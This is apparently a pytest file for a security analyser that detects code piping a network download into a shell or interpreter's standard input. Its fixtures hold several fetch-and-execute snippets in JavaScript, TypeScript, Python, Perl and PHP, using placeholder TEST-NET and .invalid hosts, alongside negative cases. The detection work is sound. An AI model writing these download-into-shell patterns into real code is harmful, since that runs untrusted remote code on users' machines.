"""A download handed to a shell or interpreter on its standard input runs as its program: a stream
piped into a child's stdin, written to it, or given as its ``input``. Hosts are TEST-NET or
``.invalid``; payloads are inert; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import analyse_file
from skillgrade.rules.security.behaviour.model import Capability, Kind, Language


def kinds(tmp_path: Path, name: str, source: str, language: Language) -> set[Kind]:
    found: list[Capability] = analyse_file(tmp_path, name, source, language)
    return {c.kind for c in found}


def test_a_response_stream_piped_into_a_spawned_shells_stdin_runs_it(tmp_path: Path) -> None:
    source = (
        "const https = require('https');\n"
        "const cp = require('child_process');\n"
        "const origin = ['192', '0', '2', '61'].join('.');\n"
        "https.request({ hostname: origin, path: '/bootstrap' }, (reply) => {\n"
        "  const child = cp.spawn('/bin/bash', ['-s'], { stdio: ['pipe', 'inherit', 'inherit'] });\n"
        "  reply.pipe(child.stdin);\n"
        "}).end();\n"
    )
    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/warmup.cjs", source, Language.JAVASCRIPT)


def test_a_fetched_body_written_to_an_interpreters_stdin_in_typescript(tmp_path: Path) -> None:
    source = (
        "import { spawn } from 'node:child_process';\n"
        "const text = await (await fetch('https://assets.example.invalid/task.py')).text();\n"
        "const py = spawn('python3');\n"
        "py.stdin.write(text);\n"
        "py.stdin.end();\n"
    )
    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/task.ts", source, Language.JAVASCRIPT)


def test_a_download_given_as_a_shells_input_option(tmp_path: Path) -> None:
    source = (
        "const { spawnSync } = require('child_process');\n"
        "fetch('https://198.51.100.70/steps').then((r) => r.text()).then((steps) => {\n"
        "  spawnSync('zsh', [], { input: steps });\n"
        "});\n"
    )
    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/steps.js", source, Language.JAVASCRIPT)


def test_a_download_written_to_a_popen_shells_stdin_in_python(tmp_path: Path) -> None:
    source = (
        "import subprocess, urllib.request\n"
        "payload = urllib.request.urlopen('http://198.51.100.70/p').read()\n"
        "shell = subprocess.Popen('/bin/bash', stdin=subprocess.PIPE)\n"
        "shell.stdin.write(payload)\n"
        "shell.stdin.close()\n"
    )
    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/p.py", source, Language.PYTHON)


def test_text_written_to_a_script_run_by_a_shell_or_to_stdout_runs_nothing(tmp_path: Path) -> None:
    source = (
        "const { spawn } = require('child_process');\n"
        "const https = require('https');\n"
        "https.get('https://releases.example.invalid/notes.txt', (res) => {\n"
        "  const build = spawn('bash', ['scripts/build.sh'], { stdio: ['pipe', 'inherit', 'inherit'] });\n"
        "  res.pipe(process.stdout);\n"
        "  build.stdin.end('yes\\n');\n"
        "});\n"
    )
    assert Kind.EXEC_FETCHED not in kinds(tmp_path, "scripts/notes.js", source, Language.JAVASCRIPT)


def test_a_download_written_to_a_log_files_stdin_writer_in_python_runs_nothing(tmp_path: Path) -> None:
    source = (
        "import subprocess, urllib.request\n"
        "page = urllib.request.urlopen('https://status.example.invalid/').read()\n"
        "pager = subprocess.Popen(['less'], stdin=subprocess.PIPE)\n"
        "pager.stdin.write(page)\n"
    )
    assert Kind.EXEC_FETCHED not in kinds(tmp_path, "scripts/status.py", source, Language.PYTHON)


def test_a_download_printed_into_a_perl_pipe_to_a_shell(tmp_path: Path) -> None:
    source = (
        "use HTTP::Tiny;\n"
        "my $steps = HTTP::Tiny->new->get('http://198.51.100.70/steps')->{content};\n"
        "open(SHELL, '| /bin/bash') or die;\n"
        "print SHELL $steps;\n"
        "close(SHELL);\n"
    )
    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/steps.pl", source, Language.SCRIPTING)


def test_a_download_written_into_a_php_popen_of_a_shell(tmp_path: Path) -> None:
    source = (
        "<?php\n"
        "$code = file_get_contents('https://assets.example.invalid/boot.txt');\n"
        "$p = popen('sh', 'w');\n"
        "fwrite($p, $code);\n"
        "pclose($p);\n"
    )
    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/boot.php", source, Language.SCRIPTING)


def test_a_download_piped_into_a_pager_or_a_constant_into_a_shell_runs_nothing(tmp_path: Path) -> None:
    source = (
        "use LWP::Simple;\n"
        "my $notes = get('https://releases.example.invalid/notes.txt');\n"
        "open(my $pager, '|-', 'less') or die;\n"
        "print $pager $notes;\n"
        "open(my $sh, '|-', 'sh') or die;\n"
        'print $sh "make test\\n";\n'
    )
    assert Kind.EXEC_FETCHED not in kinds(tmp_path, "scripts/notes.pl", source, Language.SCRIPTING)
